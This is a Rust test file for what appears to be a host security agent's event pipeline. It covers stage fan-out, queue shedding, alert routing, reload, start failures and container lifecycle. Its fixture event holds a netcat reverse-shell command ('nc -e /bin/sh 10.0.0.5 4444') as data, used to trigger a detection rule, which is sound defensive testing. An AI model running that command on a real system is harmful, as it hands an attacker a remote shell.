//! The node pipeline with stages that record what they are handed, fed from a channel
//! (the same `EventSource` the sensor is): fan-out and order, shed counting, alerts
//! between stages, reload, the stop order, start failures, and the real detection
//! and outputs stages with the shipped rule library.

use std::sync::atomic::Ordering;
use std::sync::mpsc::{self, Receiver, Sender};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rampart_agent::stages::{DetectionStage, OutputsStage};
use rampart_agent::{
    Batch, Controls, EventSource, PipelineBuilder, Record, Stage, StageContext, StageError,
    Subscription, WhenFull,
};
use rampart_event::{Alert, ContainerLifecycle, Event, LifecycleAction};

/// An exec the shipped rule "Reverse shell via netcat exec" fires on.
fn netcat_exec(seq: u64) -> Event {
    let snippet = serde_json::json!({
        "kind": "exec",
        "process": {"comm": "nc", "exe": "/bin/busybox", "argv": ["nc", "-e", "/bin/sh", "10.0.0.5", "4444"]},
    });
    let mut ev = rampart_detect::tests_format::build_event(&snippet).expect("event");
    ev.seq = seq;
    ev.ts_ns = rampart_agent::wall_ns();
    ev
}

fn alert(rule: &str) -> Alert {
    let mut a: Alert = serde_json::from_value(serde_json::json!({
        "id": "a1", "ts_ns": 1, "first_ts_ns": 1, "count": 1, "rule": rule,
        "priority": "warning", "message": "m", "source": "syscall",
        "event": serde_json::to_value(netcat_exec(0)).unwrap(),
    }))
    .expect("alert");
    a.rule = rule.to_string();
    a
}

#[derive(Default)]
struct Seen {
    events: Vec<u64>,
    event_ptrs: Vec<usize>,
    alerts: Vec<String>,
    lifecycle: Vec<String>,
    shed_before: Vec<u64>,
    flushes: u64,
    reloads: u64,
    stopped_at: Option<Instant>,
}

/// A stage that records what it sees; optionally waits on a gate before each batch,
/// raises an alert per event, or fails to start or reload.
struct Recording {
    name: &'static str,
    subscription: Subscription,
    when_full: WhenFull,
    seen: Arc<Mutex<Seen>>,
    gate: Option<Receiver<()>>,
    /// Told when a batch has arrived, before waiting on the gate.
    arrived: Option<Sender<()>>,
    alert_per_event: bool,
    alert_at_stop: bool,
    fail_start: bool,
    fail_reload: bool,
}

impl Recording {
    fn new(name: &'static str, subscription: Subscription) -> (Self, Arc<Mutex<Seen>>) {
        let seen = Arc::new(Mutex::new(Seen::default()));
        (
            Self {
                name,
                subscription,
                when_full: WhenFull::Block,
                seen: seen.clone(),
                gate: None,
                arrived: None,
                alert_per_event: false,
                alert_at_stop: false,
                fail_start: false,
                fail_reload: false,
            },
            seen,
        )
    }
}

impl Stage for Recording {
    fn name(&self) -> &str {
        self.name
    }
    fn subscription(&self) -> Subscription {
        self.subscription
    }
    fn when_full(&self) -> WhenFull {
        self.when_full
    }
    fn start(&mut self, _ctx: &StageContext) -> Result<(), StageError> {
        if self.fail_start {
            return Err(StageError::new("no disk"));
        }
        Ok(())
    }
    fn handle(&mut self, batch: &Batch, ctx: &StageContext) -> Result<(), StageError> {
        if let Some(a) = &self.arrived {
            let _ = a.send(());
        }
        if let Some(g) = &self.gate {
            let _ = g.recv();
        }
        let mut seen = self.seen.lock().unwrap();
        seen.shed_before.push(batch.shed_before);
        for r in &batch.records {
            match r {
                Record::Event(ev) => {
                    seen.events.push(ev.seq);
                    seen.event_ptrs.push(Arc::as_ptr(ev) as usize);
                    if self.alert_per_event {
                        ctx.emit_alert(alert(&format!("from {}", ev.seq)));
                    }
                }
                Record::Alert(a) => seen.alerts.push(a.rule.clone()),
                Record::Lifecycle(l) => seen.lifecycle.push(l.container_id.clone()),
            }
        }
        Ok(())
    }
    fn flush(&mut self, _now: u64, _ctx: &StageContext) -> Result<(), StageError> {
        self.seen.lock().unwrap().flushes += 1;
        Ok(())
    }
    fn reload(&mut self, _ctx: &StageContext) -> Result<(), StageError> {
        self.seen.lock().unwrap().reloads += 1;
        if self.fail_reload {
            return Err(StageError::new("broken file"));
        }
        Ok(())
    }
    fn stop(&mut self, ctx: &StageContext) -> Result<(), StageError> {
        if self.alert_at_stop {
            ctx.emit_alert(alert("at stop"));
        }
        self.seen.lock().unwrap().stopped_at = Some(Instant::now());
        Ok(())
    }
}

fn feed(n: u64) -> Receiver<Event> {
    let (tx, rx) = mpsc::channel();
    for i in 0..n {
        tx.send(netcat_exec(i)).unwrap();
    }
    rx
}

#[test]
fn every_event_stage_sees_every_event_in_order_and_shared() {
    let (a, seen_a) = Recording::new("a", Subscription::EVENTS);
    let (b, seen_b) = Recording::new("b", Subscription::ALL);
    let (c, seen_c) = Recording::new("c", Subscription::ALERTS);
    let pipeline = PipelineBuilder::new()
        .stage(a)
        .stage(b)
        .stage(c)
        .start()
        .unwrap();
    let mut source = feed(5000);
    // The source is a channel whose sender is gone: the run ends when it is drained.
    let stats = pipeline.run(&mut source, &Controls::default());
    let want: Vec<u64> = (0..5000).collect();
    let (a, b, c) = (
        seen_a.lock().unwrap(),
        seen_b.lock().unwrap(),
        seen_c.lock().unwrap(),
    );
    assert_eq!(a.events, want);
    assert_eq!(b.events, want);
    assert!(c.events.is_empty());
    // One allocation per event, shared by every stage.
    assert_eq!(a.event_ptrs, b.event_ptrs);
    assert_eq!(stats.events, 5000);
    assert_eq!(stats.stages[0].delivered, 5000);
    assert_eq!(stats.stages[2].delivered, 0);
    assert!(stats.stages.iter().all(|s| s.shed == 0 && s.errors == 0));
    assert!(a.stopped_at.is_some() && c.stopped_at.is_some());
}

#[test]
fn a_full_drop_newest_queue_sheds_for_that_stage_only_and_says_how_many() {
    let (gate_tx, gate_rx) = mpsc::channel::<()>();
    let (mut slow, seen_slow) = Recording::new("slow", Subscription::EVENTS);
    slow.when_full = WhenFull::DropNewest;
    slow.gate = Some(gate_rx);
    let (arrived_tx, arrived_rx) = mpsc::channel::<()>();
    slow.arrived = Some(arrived_tx);
    let (fast, seen_fast) = Recording::new("fast", Subscription::EVENTS);
    let mut pipeline = PipelineBuilder::new()
        .queue_batches(2)
        .stage(slow)
        .stage(fast)
        .start()
        .unwrap();
    // The slow stage takes batch 0 and waits on the gate; batches 1 and 2 fill its
    // queue of two; batches 3..9 are shed for it.
    pipeline.push_events(vec![Arc::new(netcat_exec(0))]);
    arrived_rx.recv().unwrap();
    for i in 1..10u64 {
        pipeline.push_events(vec![Arc::new(netcat_exec(i))]);
    }
    let shed = pipeline.stats().stages[0].shed;
    assert_eq!(shed, 7, "{:?}", pipeline.stats());
    // The flush tick does not wait for the full queue either.
    let (back_tx, back_rx) = mpsc::channel();
    std::thread::spawn(move || {
        pipeline.flush(1);
        let _ = back_tx.send(pipeline);
    });
    let mut pipeline = back_rx
        .recv_timeout(Duration::from_secs(10))
        .expect("the router waited on a drop-newest stage's full queue");
    for _ in 0..20 {
        let _ = gate_tx.send(());
    }
    // Batches 1 and 2 reach the stage, so its queue has room again.
    arrived_rx.recv().unwrap();
    arrived_rx.recv().unwrap();
    pipeline.push_events(vec![Arc::new(netcat_exec(10))]);
    drop(gate_tx);
    let stats = pipeline.shutdown();
    assert_eq!(stats.stages[0].shed, 7);
    assert_eq!(stats.stages[0].delivered, 4);
    assert_eq!(stats.stages[1].shed, 0);
    assert_eq!(
        seen_fast.lock().unwrap().events,
        (0..11).collect::<Vec<_>>()
    );
    let slow = seen_slow.lock().unwrap();
    assert_eq!(slow.events, vec![0, 1, 2, 10]);
    // The batch after the gap carries the count of what was missed.
    assert_eq!(slow.shed_before, vec![0, 0, 0, 7]);
}

#[test]
fn alerts_raised_by_a_stage_reach_alert_stages_and_those_raised_at_stop_reach_later_ones() {
    let (mut detect, _) = Recording::new("detect", Subscription::EVENTS);
    detect.alert_per_event = true;
    detect.alert_at_stop = true;
    let (sink, seen_sink) = Recording::new("sink", Subscription::ALERTS);
    let pipeline = PipelineBuilder::new()
        .stage(detect)
        .stage(sink)
        .start()
        .unwrap();
    let stats = pipeline.run(&mut feed(3), &Controls::default());
    let sink = seen_sink.lock().unwrap();
    assert_eq!(sink.alerts, vec!["from 0", "from 1", "from 2", "at stop"]);
    assert!(sink.events.is_empty());
    assert_eq!(stats.alerts, 4);
}

#[test]
fn reload_reaches_every_stage_and_a_refusal_is_counted() {
    let (mut a, seen_a) = Recording::new("a", Subscription::EVENTS);
    a.fail_reload = true;
    let (b, seen_b) = Recording::new("b", Subscription::EVENTS);
    let pipeline = PipelineBuilder::new().stage(a).stage(b).start().unwrap();
    let (tx, mut rx): (Sender<Event>, Receiver<Event>) = mpsc::channel();
    let controls = Controls::default();
    controls.reload.store(true, Ordering::Relaxed);
    let stopper = {
        let stop = controls.stop.clone();
        std::thread::spawn(move || {
            tx.send(netcat_exec(0)).unwrap();
            std::thread::sleep(Duration::from_millis(600));
            stop.store(true, Ordering::Relaxed);
            tx
        })
    };
    let stats = pipeline.run(&mut rx, &controls);
    drop(stopper.join());
    assert_eq!(seen_a.lock().unwrap().reloads, 1);
    assert_eq!(seen_b.lock().unwrap().reloads, 1);
    assert_eq!(stats.stages[0].errors, 1);
    assert_eq!(stats.stages[1].errors, 0);
    // 600 ms of running ticks the stages' flush (every 250 ms) at least twice.
    assert!(seen_b.lock().unwrap().flushes >= 2);
}

#[test]
fn a_stage_that_cannot_start_stops_the_pipeline_from_starting() {
    let (a, seen_a) = Recording::new("a", Subscription::EVENTS);
    let (mut b, _) = Recording::new("recorder", Subscription::EVENTS);
    b.fail_start = true;
    let err = match PipelineBuilder::new().stage(a).stage(b).start() {
        Ok(_) => panic!("started"),
        Err(e) => e.to_string(),
    };
    assert!(err.contains("recorder") && err.contains("no disk"), "{err}");
    // The stage already started was stopped again.
    assert!(seen_a.lock().unwrap().stopped_at.is_some());
}

#[test]
fn detection_and_outputs_stages_turn_an_event_into_an_alert_line() {
    let rules = rampart_agent::config::default_rules_dir().expect("the shipped library");
    let (engine, errors) = rampart_detect::RuleEngine::load(&[rules]).unwrap();
    assert!(errors.is_empty(), "{errors:?}");
    let dir = std::env::temp_dir().join(format!("rampart-agent-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.join("alerts.jsonl");
    let outputs_config: rampart_notify::OutputsConfig = file_sink_config(&out);
    let (outputs, report) = OutputsStage::new(&outputs_config).unwrap();
    let (tap, seen_tap) = Recording::new("tap", Subscription::ALERTS);
    let pipeline = PipelineBuilder::new()
        .stage(DetectionStage::new(engine))
        .stage(outputs)
        .stage(tap)
        .start()
        .unwrap();
    let stats = pipeline.run(&mut feed(1), &Controls::default());
    assert_eq!(
        seen_tap.lock().unwrap().alerts,
        vec!["Reverse shell via netcat exec"]
    );
    let written = std::fs::read_to_string(&out).unwrap();
    let line: serde_json::Value = serde_json::from_str(written.lines().next().unwrap()).unwrap();
    assert_eq!(line["rule"], "Reverse shell via netcat exec");
    let report = report.lock().unwrap();
    assert_eq!(report.sinks[0].sent, 1, "{:?}", report.sinks);
    assert_eq!(report.latency.as_ref().map(|l| l.alerts), Some(1));
    assert_eq!(stats.alerts, 1);
    let _ = std::fs::remove_dir_all(&dir);
}

/// One file sink in the JSON the outputs configuration also reads.
fn file_sink_config(path: &std::path::Path) -> rampart_notify::OutputsConfig {
    serde_json::from_value(serde_json::json!({
        "sinks": [{"type": "file", "path": path}]
    }))
    .expect("outputs config")
}

/// Events from a channel, and container lifecycle changes queued beside them.
struct WithLifecycle {
    events: Receiver<Event>,
    lifecycle: Vec<ContainerLifecycle>,
}

impl EventSource for WithLifecycle {
    fn recv_timeout(&mut self, timeout: Duration) -> Result<Event, mpsc::RecvTimeoutError> {
        self.events.recv_timeout(timeout)
    }
    fn try_recv(&mut self) -> Option<Event> {
        self.events.try_recv().ok()
    }
    fn stop(&mut self) {}
    fn try_recv_lifecycle(&mut self) -> Option<ContainerLifecycle> {
        (!self.lifecycle.is_empty()).then(|| self.lifecycle.remove(0))
    }
}

#[test]
fn container_lifecycle_reaches_the_stages_that_subscribe_to_it() {
    let (everything, seen_all) = Recording::new("recorder", Subscription::ALL);
    let (events_only, seen_events) = Recording::new("detection", Subscription::EVENTS);
    let pipeline = PipelineBuilder::new()
        .stage(everything)
        .stage(events_only)
        .start()
        .unwrap();
    let change = |id: &str, action| ContainerLifecycle {
        ts_ns: 1,
        action,
        container_id: id.into(),
        name: "web".into(),
        image: "nginx".into(),
        labels: Default::default(),
    };
    let mut source = WithLifecycle {
        events: feed(2),
        lifecycle: vec![
            change("c1", LifecycleAction::Start),
            change("c1", LifecycleAction::Die { exit_code: 137 }),
        ],
    };
    pipeline.run(&mut source, &Controls::default());
    assert_eq!(seen_all.lock().unwrap().lifecycle, vec!["c1", "c1"]);
    assert_eq!(seen_all.lock().unwrap().events, vec![0, 1]);
    assert!(seen_events.lock().unwrap().lifecycle.is_empty());
}

/// One event, then nothing for a long time: a sensor on a quiet host. Its
/// `recv_timeout` ignores the router's timeout, so the router does not come back
/// until `silent_for` has passed.
struct QuietSource {
    first: Option<Event>,
    silent_for: Duration,
    stopped: bool,
}

impl EventSource for QuietSource {
    fn recv_timeout(&mut self, _timeout: Duration) -> Result<Event, mpsc::RecvTimeoutError> {
        if let Some(ev) = self.first.take() {
            return Ok(ev);
        }
        if self.stopped {
            return Err(mpsc::RecvTimeoutError::Disconnected);
        }
        std::thread::sleep(self.silent_for);
        self.stopped = true;
        Err(mpsc::RecvTimeoutError::Timeout)
    }
    fn try_recv(&mut self) -> Option<Event> {
        None
    }
    fn stop(&mut self) {
        self.stopped = true;
    }
}

#[test]
fn an_alert_reaches_the_alert_stages_while_the_router_waits_for_events() {
    let (mut detect, _) = Recording::new("detect", Subscription::EVENTS);
    detect.alert_per_event = true;
    let (mut respond, seen) = Recording::new("respond", Subscription::ALERTS);
    let (arrived_tx, arrived_rx) = mpsc::channel::<()>();
    respond.arrived = Some(arrived_tx);
    let pipeline = PipelineBuilder::new()
        .stage(detect)
        .stage(respond)
        .start()
        .unwrap();
    let mut source = QuietSource {
        first: Some(netcat_exec(1)),
        silent_for: Duration::from_secs(4),
        stopped: false,
    };
    let run = std::thread::spawn(move || pipeline.run(&mut source, &Controls::default()));
    // The router is asleep in the source for 4 s: the alert goes out without it.
    assert!(
        arrived_rx.recv_timeout(Duration::from_secs(3)).is_ok(),
        "the alert waited for the router"
    );
    let stats = run.join().unwrap();
    assert_eq!(seen.lock().unwrap().alerts, ["from 1"]);
    assert_eq!(stats.alerts, 1);
}
